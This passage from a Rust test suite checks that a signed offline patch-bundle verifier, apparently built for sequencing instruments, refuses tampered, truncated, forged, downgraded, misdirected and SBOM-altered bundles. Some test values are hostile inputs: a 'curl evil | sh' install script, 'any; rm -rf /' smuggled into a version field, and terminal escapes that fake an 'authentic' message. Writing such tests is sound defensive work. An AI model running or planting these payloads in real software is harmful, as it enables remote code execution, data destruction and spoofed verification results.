            "member_padding_not_zero",
            manifest_padding,
            "not the canonical one",
        ),
        Case::refused(
            t,
            "unknown_container_version",
            with_marker(b"offline-patch-bundle/2\n"),
            "this verifier reads",
        ),
        Case::refused(
            t,
            "oversized_format_member",
            with_marker(&[b'x'; 100]),
            "exceeds the limit",
        ),
        Case::refused(
            t,
            "not_a_bundle_at_all",
            b"#!/bin/sh\necho this is a shell script\n".repeat(20),
            "not a patch bundle",
        ),
        Case::refused(
            t,
            "plain_gnu_tar_named_like_a_bundle",
            plain_tar,
            "not the canonical one",
        ),
    ]
}

fn truncation(keys: &Keys) -> Vec<Case> {
    let p = Parts::base();
    let mb = p.manifest_bytes();
    let sigs = craft::signatures(&mb, &[&keys.trusted]);
    let good = craft::container(&mb, &sigs, &p.payload);
    let mut cuts: Vec<(String, usize)> = Vec::new();
    for (name, at) in craft::boundaries(&mb, &sigs, &p.payload) {
        if at >= good.len() {
            continue;
        }
        cuts.push((format!("at_the_{name}"), at));
        cuts.push((format!("inside_the_{name}"), at + 1));
    }
    cuts.push(("one_byte_short".into(), good.len() - 1));
    cuts.into_iter()
        .map(|(name, at)| {
            Case::refused(
                Threat::Truncation,
                &format!("truncated_{}", name.replace([' ', '-', '.'], "_")),
                good[..at].to_vec(),
                "truncated",
            )
        })
        .collect()
}

fn manifest_encoding(keys: &Keys) -> Vec<Case> {
    let t = Threat::ManifestEncoding;
    let p = Parts::base();
    let canonical = p.manifest_bytes();
    let sign_bytes = |m: Vec<u8>| {
        let sigs = craft::signatures(&m, &[&keys.trusted]);
        craft::container(&m, &sigs, &p.payload)
    };
    let text = String::from_utf8(canonical.clone()).expect("utf-8");
    let not_canonical = "not in canonical form";
    let pretty = serde_json::to_vec_pretty(&p.manifest).expect("json");
    let dup_key = text.replacen(
        "{\"blobs\"",
        "{\"format\":\"offline-patch-bundle/1\",\"blobs\"",
        1,
    );
    let unsorted = text
        .replacen("\"format\":\"offline-patch-bundle/1\",", "", 1)
        .replacen('{', "{\"format\":\"offline-patch-bundle/1\",", 1);
    let escaped = text.replacen("lrm/bin", "lrm\\/bin", 1);
    let unicode_escape = text.replacen("\"Dx\"", "\"\\u0044x\"", 1);
    let float = text.replacen("\"sequence\":1", "\"sequence\":1.0", 1);
    let exponent = text.replacen("\"sequence\":1", "\"sequence\":1e0", 1);
    let bom = [&b"\xEF\xBB\xBF"[..], &canonical].concat();
    let trailing_ws = [&canonical[..], b"\n"].concat();
    let nested = {
        let depth = 100_000;
        format!(
            "{{\"blobs\":{}{},{}",
            "[".repeat(depth),
            "]".repeat(depth),
            &text[text.find("\"format\"").expect("format")..]
        )
    };
    // Refused from its header, before any of its 33 MiB is read or hashed.
    let huge = {
        let notes = format!("\"notes\":{{\"en\":\"{}", "A".repeat(33 << 20));
        let m = text
            .replacen("\"notes\":{\"en\":\"", &notes, 1)
            .into_bytes();
        let sigs = craft::signatures(&canonical, &[&keys.trusted]);
        craft::container(&m, &sigs, &p.payload)
    };
    vec![
        Case::refused(
            t,
            "manifest_pretty_printed",
            sign_bytes(pretty),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_keys_unsorted",
            sign_bytes(unsorted.into()),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_duplicate_json_key",
            sign_bytes(dup_key.into()),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_escaped_slash",
            sign_bytes(escaped.into()),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_needless_unicode_escape",
            sign_bytes(unicode_escape.into()),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_float_number",
            sign_bytes(float.into()),
            "expected u64",
        ),
        Case::refused(
            t,
            "manifest_exponent_number",
            sign_bytes(exponent.into()),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_with_byte_order_mark",
            sign_bytes(bom),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_with_trailing_newline",
            sign_bytes(trailing_ws),
            not_canonical,
        ),
        Case::refused(
            t,
            "manifest_nested_100000_deep",
            sign_bytes(nested.into()),
            not_canonical,
        ),
        Case::refused(t, "manifest_of_33_mib", huge, "manifest.json in bytes"),
        Case::refused(
            t,
            "release_notes_over_the_limit",
            edited(keys, |m| {
                m["release"]["notes"]["en"] = json!("A".repeat(65 << 10))
            }),
            "release notes bytes",
        ),
        Case::refused(
            t,
            "manifest_unknown_format_version",
            edited(keys, |m| m["format"] = json!("offline-patch-bundle/3")),
            "this verifier reads",
        ),
        Case::refused(
            t,
            "manifest_unknown_field",
            edited(keys, |m| m["install_script"] = json!("curl evil | sh")),
            "unknown field",
        ),
        Case::refused(
            t,
            "manifest_unknown_field_in_a_file_entry",
            edited(keys, |m| dx_files(m)[1]["mode"] = json!(0o4755)),
            "unknown field",
        ),
        Case::refused(
            t,
            "manifest_negative_size",
            edited(keys, |m| dx_files(m)[1]["size"] = json!(-1)),
            "schema",
        ),
        Case::refused(
            t,
            "manifest_size_as_string",
            edited(keys, |m| dx_files(m)[1]["size"] = json!("21")),
            "schema",
        ),
        Case::refused(
            t,
            "manifest_uppercase_digest",
            edited(keys, |m| {
                let s = dx_files(m)[1]["sha256"]
                    .as_str()
                    .expect("str")
                    .to_uppercase();
                dx_files(m)[1]["sha256"] = json!(s);
            }),
            "lowercase hex",
        ),
        Case::refused(
            t,
            "manifest_not_json",
            sign_bytes(b"format = \"offline-patch-bundle/1\"\n".to_vec()),
            not_canonical,
        ),
        Case::refused(
            t,
            "mode_that_is_a_path",
            edited(keys, |m| {
                m["targets"][0]["mode"] = json!("../../installed/Dx")
            }),
            "mode must be",
        ),
        Case::refused(
            t,
            "model_with_control_characters",
            edited(keys, |m| {
                m["targets"][0]["model"] = json!("NextSeq\u{1b}[2J")
            }),
            "printable",
        ),
        Case::refused(
            t,
            "requires_version_not_a_range",
            edited(keys, |m| {
                m["targets"][0]["requires_version"] = json!("any; rm -rf /")
            }),
            "requires_version",
        ),
        Case::refused(
            t,
            "udi_di_not_ascii",
            edited(keys, |m| {
                m["targets"][0]["udi_di"] = json!(["0081627002012\u{0665}"])
            }),
            "printable ASCII",
        ),
    ]
}

fn signatures_cases(keys: &Keys) -> Vec<Case> {
    let t = Threat::Signatures;
    let p = Parts::base();
    let mb = p.manifest_bytes();
    let trusted_id = keys.trusted.key_id().clone();
    let sig = keys.trusted.sign(&mb).expect("sign");
    let with_sigs = |sigs: Value| craft::container(&mb, &craft::canonical(&sigs), &p.payload);
    let entry = |id: &str, sig: &[u8]| json!({"key_id": id, "signature": SignatureBytes(sig.try_into().expect("64")).to_base64()});
    let b64 = |bytes: &[u8]| {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(bytes)
    };
    let other = Parts::new(&base_targets("another release"));
    let other_mb = other.manifest_bytes();
    let other_sigs = craft::signatures(&other_mb, &[&keys.trusted]);
    let not_match = "does not match the manifest";
    let many: Vec<Value> = (0..65u32)
        .map(|i| json!({"key_id": format!("{i:016x}"), "signature": sig.to_base64()}))
        .collect();
    let big_sig_file = {
        let mut s = craft::signatures(&mb, &[&keys.trusted]);
        s.splice(
            1..1,
            format!("\"x\":\"{}\",", "A".repeat(70 << 10)).into_bytes(),
        );
        s
    };
    let altered = {
        let mut m = mb.clone();
        let at = m.windows(5).position(|w| w == b"1.0.0").expect("version");
        m[at] = b'9';
        m
    };
    // Before any signature is checked, an error quoting the input must not
    // let it clear the screen and draw "OK" (issue: terminal injection).
    let escape_field = {
        let sigs = craft::signatures(&mb, &[&keys.trusted]);
        let mut v: Value = serde_json::from_slice(&sigs).expect("signatures JSON");
        let fake = "\u{1b}[2J\u{1b}[H\u{1b}[32mOK: bundle is authentic and intact\u{202e}";
        v[fake] = json!(1);
        craft::canonical(&v)
    };
    vec![
        Case::refused(
            t,
            "unknown_field_whose_name_holds_terminal_escapes",
            craft::container(&mb, &escape_field, &p.payload),
            "\\u{1b}[2J",
        ),
        Case::refused(
            t,
            "signed_by_an_unknown_key",
            p.signed_by(&keys.untrusted),
            "not signed by enough trusted",
        ),
        Case::refused(
            t,
            "manifest_changed_after_signing",
            craft::container(
                &altered,
                &craft::signatures(&mb, &[&keys.trusted]),
                &p.payload,
            ),
            not_match,
        ),
        Case::refused(
            t,
            "signature_by_another_key_under_the_trusted_key_id",
            with_sigs(
                json!({"signatures": [entry(trusted_id.as_str(), &keys.untrusted.sign(&mb).expect("sign").0)]}),
            ),
            not_match,
        ),
        Case::refused(
            t,
            "malleable_signature_s_plus_l",
            with_sigs(
                json!({"signatures": [entry(trusted_id.as_str(), &craft::malleate(&sig.0))]}),
            ),
            not_match,
        ),
        Case::refused(
            t,
            "all_zero_signature",
            with_sigs(json!({"signatures": [entry(trusted_id.as_str(), &[0u8; 64])]})),
            not_match,
        ),
        Case::refused(
            t,
            "mix_and_match_signature_over_another_manifest",
            craft::container(&mb, &other_sigs, &p.payload),
            not_match,
        ),
        Case::refused(
            t,
            "mix_and_match_payload_of_another_bundle",
            craft::container(
                &mb,
                &craft::signatures(&mb, &[&keys.trusted]),
                &other.payload,
            ),
            "payload is",
        ),
        Case::refused(
            t,
            "mix_and_match_manifest_of_another_bundle",
            craft::container(&other_mb, &other_sigs, &p.payload),
            "payload is",
        ),
        Case::refused(
            t,
            "no_signature",
            with_sigs(json!({"signatures": []})),
            "holds no signature",
        ),
        Case::refused(
            t,
            "too_many_signatures",
            with_sigs(json!({ "signatures": many })),
            "number of signatures",
        ),
        Case::refused(
            t,
            "signature_file_not_canonical",
            craft::container(
                &mb,
                &serde_json::to_vec_pretty(
                    &json!({"signatures": [entry(trusted_id.as_str(), &sig.0)]}),
                )
                .expect("json"),
                &p.payload,
            ),
            "not canonical JSON",
        ),
        Case::refused(
            t,
            "signature_file_duplicate_key_id",
            with_sigs(
                json!({"signatures": [entry(trusted_id.as_str(), &sig.0), entry(trusted_id.as_str(), &sig.0)]}),
            ),
            "signs twice",
        ),
        Case::refused(
            t,
            "signature_file_unknown_field",
            with_sigs(json!({"signatures": [entry(trusted_id.as_str(), &sig.0)], "threshold": 0})),
            "unknown field",
        ),
        Case::refused(
            t,
            "signature_not_base64",
            with_sigs(
                json!({"signatures": [{"key_id": trusted_id.as_str(), "signature": "!!!!"}]}),
            ),
            "base64",
        ),
        Case::refused(
            t,
            "signature_63_bytes",
            with_sigs(
                json!({"signatures": [{"key_id": trusted_id.as_str(), "signature": b64(&sig.0[..63])}]}),
            ),
            "63 bytes",
        ),
        Case::refused(
            t,
            "signature_with_appended_garbage",
            with_sigs(
                json!({"signatures": [{"key_id": trusted_id.as_str(), "signature": b64(&[&sig.0[..], b"garbage"].concat())}]}),
            ),
            "71 bytes",
        ),
        Case::refused(
            t,
            "key_id_not_canonical",
            with_sigs(json!({"signatures": [entry(&trusted_id.as_str().to_uppercase(), &sig.0)]})),
            "is not a key ID",
        ),
        Case::refused(
            t,
            "signature_file_over_the_limit",
            craft::container(&mb, &big_sig_file, &p.payload),
            "signatures.json in bytes",
        ),
    ]
}

fn wrong_installation(keys: &Keys) -> Vec<Case> {
    let t = Threat::WrongInstallation;
    let only = |keep: &'static [usize], edit: fn(&mut Value)| {
        edited(keys, |m| {
            let targets: Vec<Value> = keep.iter().map(|&i| m["targets"][i].clone()).collect();
            m["targets"] = json!(targets);
            edit(m);
        })
    };
    // Keep the blobs of the NextSeq target used even when only the MiSeqDx target remains.
    let miseq_only = edited(keys, |m| {
        let mut t = m["targets"][0].clone();
        t["model"] = json!("MiSeqDx");
        t["udi_di"] = json!(["00816270020002"]);
        m["targets"] = json!([t]);
    });
    vec![
        Case::refused_apply(
            t,
            "target_for_another_model",
            miseq_only,
            4,
            "this bundle is for MiSeqDx",
        ),
        Case::refused_apply(
            t,
            "target_for_the_model_in_another_case",
            only(&[0], |m| m["targets"][0]["model"] = json!("NEXTSEQ 550DX")),
            4,
            "this bundle is for NEXTSEQ 550DX",
        ),
        Case::refused_apply(
            t,
            "target_for_another_mode",
            only(&[1], |_| {}),
            4,
            "has no Dx mode",
        ),
        Case::refused_apply(
            t,
            "target_for_another_udi_di",
            only(&[0, 1], |m| {
                m["targets"][0]["udi_di"] = json!(["00816270020999"])
            }),
            4,
            "device identifier (UDI-DI) 00816270020999",
        ),
        Case::refused_apply(
            t,
            "target_for_another_installed_version",
            only(&[0, 1], |m| {
                m["targets"][0]["requires_version"] = json!(">=4.0.0")
            }),
            4,
            "needs installed software version >=4.0.0",
        ),
    ]
}

fn root_escape(keys: &Keys) -> Vec<Case> {
    let t = Threat::RootEscape;
    let good = Parts::base().signed_by(&keys.trusted);
    let case = |name: &str, says: &'static str, setup: RootSetup| {
        Case::refused_apply(t, name, good.clone(), 5, says).with_root(Some(setup))
    };
    vec![
        case(
            "root_directory_is_a_symlink_out",
            "is a symbolic link",
            |root, outside| {
                let bin = root.join("lrm/bin");
                std::fs::rename(&bin, outside.join("bin")).expect("move");
                symlink(&outside.join("bin"), &bin);
            },
        ),
        case(
            "root_file_is_a_symlink_out",
            "is a symbolic link",
            |root, outside| {
                let f = root.join("lrm/config/remote-access.json");
                std::fs::remove_file(&f).expect("remove");
                symlink(&outside.join("secret"), &f);
            },
        ),
        case(
            "root_file_is_a_dangling_symlink",
            "is a symbolic link",
            |root, outside| {
                symlink(
                    &outside.join("nothing-here"),
                    &root.join("lrm/bin/lrm-guard"),
                )
            },
        ),
        case("root_file_is_a_fifo", "not a regular file", |root, _| {
            mkfifo(&root.join("lrm/bin/lrm-guard"))
        }),
        case(
            "root_file_is_a_directory",
            "not a regular file",
            |root, _| std::fs::create_dir_all(root.join("lrm/bin/lrm-guard/keep")).expect("mkdir"),
        ),
        case("root_directory_is_a_file", "not a directory", |root, _| {
            std::fs::remove_dir_all(root.join("lrm/bin")).expect("rm");
            std::fs::write(root.join("lrm/bin"), b"not a dir").expect("write");
        }),
    ]
}

#[cfg(unix)]
fn symlink(target: &Path, link: &Path) {
    std::os::unix::fs::symlink(target, link).expect("symlink");
}

#[cfg(not(unix))]
fn symlink(target: &Path, link: &Path) {
    std::os::windows::fs::symlink_file(target, link).expect("symlink");
}

fn mkfifo(path: &Path) {
    let ok = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo runs")
        .success();
    assert!(ok, "mkfifo {}", path.display());
}

/// A trust root document signed by `keys` (over its signed part).
fn signed_root(
    doc: Result<bundle_keys::root::RootDocument, bundle_builder::BuildError>,
    keys: &[&FileKey],
) -> bundle_keys::root::RootDocument {
    let doc = doc.expect("trust root document");
    resign_root(doc.file, keys)
}

fn resign_root(
    mut file: bundle_keys::root::RootFile,
    keys: &[&FileKey],
) -> bundle_keys::root::RootDocument {
    let unsigned = bundle_keys::root::RootFile {
        signatures: Vec::new(),
        signed: file.signed.clone(),
    };
    let signed_bytes = bundle_keys::root::RootDocument::from_file(unsigned)
        .expect("document rules")
        .signed_bytes;
    file.signatures.clear();
    for k in keys {
        file.signatures.push(bundle_keys::SignatureEntry {
            key_id: k.key_id().clone(),
            signature: k.sign(&signed_bytes).expect("sign").to_base64(),
        });
    }
    file.signatures.sort_by(|a, b| a.key_id.cmp(&b.key_id));
    bundle_keys::root::RootDocument::from_file(file).expect("document rules")
}

/// Cases judged by a trust root (issue 4). The instrument has version 4
/// installed: v1 release keys `trusted` and `revoked`; v2 revokes
/// `revoked`; v3 adds `expired` (expired 2020-01-31); v4 adds `scoped`
/// (MiSeqDx only). All versions are signed by the one root key.
fn trust_root(keys: &Keys) -> Vec<Case> {
    use bundle_builder::trust::{edit, init, Edit};
    let t = Threat::TrustRoot;
    let root_key = FileKey::generate();
    let attacker = FileKey::generate();
    let revoked = FileKey::generate();
    let expired = FileKey::generate();
    let scoped = FileKey::generate();
    let pk = |k: &FileKey| k.public_key().clone();
    let by_root = [&root_key];
    let v1 = signed_root(
        init(
            &[pk(&root_key)],
            1,
            &[pk(&keys.trusted), pk(&revoked)],
            1,
            None,
        ),
        &by_root,
    );
    let v2 = signed_root(
        edit(
            &v1,
            &Edit {
                revoke: vec![revoked.key_id().clone()],
                ..Edit::default()
            },
        ),
        &by_root,
    );
    let v3 = signed_root(
        edit(
            &v2,
            &Edit {
                add_release_keys: vec![pk(&expired)],
                expires: bundle_keys::Date::parse("2020-01-31"),
                ..Edit::default()
            },
        ),
        &by_root,
    );
    let v4 = signed_root(
        edit(
            &v3,
            &Edit {
                add_release_keys: vec![pk(&scoped)],
                scope: vec!["MiSeqDx".into()],
                ..Edit::default()
            },
        ),
        &by_root,
    );
    let add_attacker = Edit {
        add_release_keys: vec![pk(&attacker)],
        ..Edit::default()
    };
    // Version 4 again, but with the attacker's release key.
    let fork = signed_root(edit(&v3, &add_attacker), &[&attacker]);
    // Version 5 adding the attacker, signed only by the attacker.
    let forged_next = signed_root(edit(&v4, &add_attacker), &[&attacker]);
    // Version 6 (properly signed) without the version 5 it chains from.
    let v5 = signed_root(edit(&v4, &Edit::default()), &by_root);
    let gap = signed_root(edit(&v5, &add_attacker), &by_root);
    // Version 5 that takes back the revocation of `revoked`.
    let unrevoke = {
        let mut f = v5.file.clone();
        f.signed.revoked.clear();
        f.signed
            .release_keys
            .push(bundle_keys::root::ReleaseKey::new(
                revoked.public_key(),
                None,
                None,
            ));
        f.signed
            .release_keys
            .sort_by(|a, b| a.key_id.cmp(&b.key_id));
        resign_root(f, &by_root)
    };

    let p = Parts::base();
    let mb = p.manifest_bytes();
    let signed_by = |k: &FileKey| p.signed_by(k);
    let carrying = |root: &bundle_keys::root::RootDocument, k: &FileKey| {
        craft::container_with_roots(
            &[(root.version(), root.bytes.clone())],
            &mb,
            &craft::signatures(&mb, &[k]),
            &p.payload,
        )
    };
    let installed = |mut c: Case| {
        c.trust = TrustSetup::Installed(v4.bytes.clone());
        c
    };
    let mut rollback = Case::refused_apply(
        t,
        "trust_root_rolled_back_to_an_older_version",
        signed_by(&keys.trusted),
        3,
        "trust root version 2 is older than version 4",
    );
    rollback.trust = TrustSetup::InstalledAndGiven {
        installed: v4.bytes.clone(),
        given: v2.bytes.clone(),
    };
    vec![
        installed(Case::refused(
            t,
            "signed_by_a_revoked_key",
            signed_by(&revoked),
            "revoked in trust root version",
        )),
        installed(Case::refused(
            t,
            "signed_by_an_expired_key",
            signed_by(&expired),
            "key expired on 2020-01-31",
        )),
        installed(Case::refused(
            t,
            "signed_by_a_key_out_of_scope_for_this_model",
            signed_by(&scoped),
            "may sign only for MiSeqDx but the bundle also targets NextSeq 550Dx",
        )),
        installed(Case::refused(
            t,
            "signed_by_a_root_key_not_a_release_key",
            signed_by(&root_key),
            "a root key of trust root version 4, not a release key",
        )),
        rollback,
        installed(Case::refused(
            t,
            "bundle_carries_a_forked_trust_root_of_the_installed_version",
            carrying(&fork, &attacker),
            "two different trust roots with version 4",
        )),
        installed(Case::refused(
            t,
            "bundle_carries_a_next_trust_root_signed_only_by_the_attacker",
            carrying(&forged_next, &attacker),
            "trust root version 5 is signed by only",
        )),
        installed(Case::refused(
            t,
            "bundle_carries_a_trust_root_that_skips_a_version",
            carrying(&gap, &attacker),
            "every version in between is needed",
        )),
        installed(Case::refused(
            t,
            "bundle_carries_a_trust_root_that_takes_back_a_revocation",
            carrying(&unrevoke, &revoked),
            "revocations are permanent",
        )),
    ]
}

fn nothing_to_do(mut c: Case) -> Case {
    c.apply = AUTHENTIC;
    c
}

/// Cases against an instrument that already has a release installed.
fn downgrade(keys: &Keys) -> Vec<Case> {
    let t = Threat::Downgrade;
    let release = |sequence: u64, version: &str| {
        Parts::base()
            .edit(|m| {
                m["release"]["sequence"] = json!(sequence);
                m["release"]["version"] = json!(version);
            })
            .signed_by(&keys.trusted)
    };
    let installed = release(5, "1.4.0");
    let case = |name: &str, bundle: Vec<u8>, says: &'static str| {
        let mut c = Case::refused_apply(t, name, bundle, 4, says);
        c.preinstalled = Some(installed.clone());
        c
    };
    // The installed release again, with a second signature: other bytes, same sequence.
    let cosigned = {
        let p = Parts::base().edit(|m| {
            m["release"]["sequence"] = json!(5);
            m["release"]["version"] = json!("1.4.0");
        });
        let mb = p.manifest_bytes();
        craft::container(
            &mb,
            &craft::signatures(&mb, &[&keys.trusted, &keys.untrusted]),
            &p.payload,
        )
    };
    vec![
        case(
            "downgrade_to_a_lower_release_sequence",
            release(4, "1.3.0"),
            "this bundle is older (sequence 4) and would downgrade it",
        ),
        case(
            "downgrade_with_a_higher_version_string_but_lower_sequence",
            release(1, "9.9.9"),
            "this bundle is older (sequence 1)",
        ),
        // The installed release again, its files intact, changes nothing:
        // "nothing to do" (exit 0, nothing written; tests/output.rs checks
        // the words, and the refusal when the files were changed).
        nothing_to_do(case(
            "replay_of_the_installed_release",
            installed.clone(),
            "",
        )),
        nothing_to_do(case(
            "replay_of_the_installed_release_with_another_signature_added",
            cosigned,
            "",
        )),
    ]
}

// ---------------------------------------------------------------- SBOM

fn sbom(keys: &Keys) -> Vec<Case> {
    let t = Threat::Sbom;
    let doc = craft::cyclonedx("lrm-guard");
    let p = Parts::base().edit(|m| m["sbom"] = sbom_entry("cyclonedx", "1.5", &doc));
    let mb = p.manifest_bytes();
    let sigs = craft::signatures(&mb, &[&keys.trusted]);
    let with = |sbom: &[u8]| craft::container_with_sbom(&mb, &sigs, sbom, &p.payload);
    // A manifest whose SBOM entry is `entry`, signed, carrying `sbom`.
    let signed = |entry: Value, sbom: &[u8]| {
        let p = Parts::base().edit(|m| m["sbom"] = entry);
        let mb = p.manifest_bytes();
        let sigs = craft::signatures(&mb, &[&keys.trusted]);
        craft::container_with_sbom(&mb, &sigs, sbom, &p.payload)
    };
    let mut flipped = doc.clone();
    let at = flipped.len() / 2;
    flipped[at] ^= 0x20;
    let other = craft::cyclonedx("lrm-guard-but-backdoored");
    let after_payload = {
        let mut out = craft::member(MEMBER_FORMAT, FORMAT_MARKER);
        out.extend(craft::member(MEMBER_MANIFEST, &mb));
        out.extend(craft::member(MEMBER_SIGNATURES, &sigs));
        out.extend(craft::member(MEMBER_PAYLOAD, &p.payload));
        out.extend(craft::member(
            bundle_verifier::format::envelope::MEMBER_SBOM,
            &doc,
        ));
        out.extend([0u8; 2 * BLOCK]);
        out
    };
    let unsigned_extra = {
        let base = Parts::base();
        let mb = base.manifest_bytes();
        let sigs = craft::signatures(&mb, &[&keys.trusted]);
        craft::container_with_sbom(&mb, &sigs, &doc, &base.payload)
    };
    let not_sbom = br#"{"hello":"world"}"#;
    let spdx3 = br#"{"@context":"https://spdx.org/rdf/3.0.1/spdx-context.jsonld","@graph":[]}"#;
    vec![
        Case::refused(t, "sbom-byte-changed", with(&flipped), "SBOM is damaged"),
        Case::refused(
            t,
            "sbom-swapped-for-another",
            with(&other),
            "SBOM is damaged",
        ),
        Case::refused(t, "sbom-emptied", with(b""), "SBOM is damaged"),
        Case::refused(
            t,
            "sbom-dropped",
            craft::container(&mb, &sigs, &p.payload),
            "sbom.json header",
        ),
        Case::refused(t, "sbom-after-payload", after_payload, "sbom.json header"),
        Case::refused(
            t,
            "sbom-added-unsigned",
            unsigned_extra,
            "payload.tar.zst header",
        ),
        Case::refused(
            t,
            "sbom-kind-disagrees-with-manifest",
            signed(sbom_entry("spdx", "SPDX-2.3", &doc), &doc),
            "manifest says the SBOM is SPDX SPDX-2.3",
        ),
        Case::refused(
            t,
            "sbom-version-disagrees-with-manifest",
            signed(sbom_entry("cyclonedx", "1.6", &doc), &doc),
            "but sbom.json is CycloneDX 1.5",
        ),
        Case::refused(
            t,
            "sbom-signed-but-not-an-sbom",
            signed(sbom_entry("cyclonedx", "1.5", not_sbom), not_sbom),
            "neither CycloneDX",
        ),
        Case::refused(
            t,
            "sbom-spdx3-json-ld",
            signed(sbom_entry("spdx", "SPDX-3.0", spdx3), spdx3),
            "SPDX 3",
        ),
        Case::refused(t, "sbom-entry-null", signed(Value::Null, b""), "canonical"),
        Case::refused(
            t,
            "sbom-entry-unknown-field",
            signed(
                {
                    let mut e = sbom_entry("cyclonedx", "1.5", &doc);
                    e["url"] = json!("https://example.com/sbom");
                    e
                },
                &doc,
            ),
            "unknown field",
        ),
        Case::refused(
            t,
            "sbom-entry-unknown-format",
            signed(sbom_entry("swid", "1.0", &doc), &doc),
            "unknown variant",
        ),
        Case::refused(
            t,
            "sbom-size-over-limit",
            signed(
                {
                    let mut e = sbom_entry("cyclonedx", "1.5", &doc);
                    e["size"] = json!(1u64 << 40);
                    e
                },
                &doc,
            ),
            "SBOM size in bytes",
        ),
    ]
}
